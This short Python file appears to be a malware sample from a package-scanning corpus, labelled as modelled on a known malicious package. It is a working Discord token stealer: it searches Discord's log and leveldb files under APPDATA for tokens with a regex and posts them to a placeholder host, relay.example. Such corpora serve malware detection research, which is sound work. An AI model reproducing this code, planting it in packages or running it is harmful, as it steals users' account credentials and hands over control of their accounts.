# pkgguard corpus 483 (discord-token), modelled on [discordpydebug]; inert, never run.
import os
import re

import requests

TOKEN = re.compile(r"[\w-]{24,26}\.[\w-]{6}\.[\w-]{25,110}")
found = set()
root = os.path.join(os.environ.get("APPDATA", ""), "discord")
for folder, _dirs, files in os.walk(root):
    for name in files:
        if name.endswith((".log", ".ldb")):
            with open(os.path.join(folder, name), errors="ignore") as fh:
                found.update(TOKEN.findall(fh.read()))
requests.post("https://relay.example/t", json=sorted(found), timeout=10)
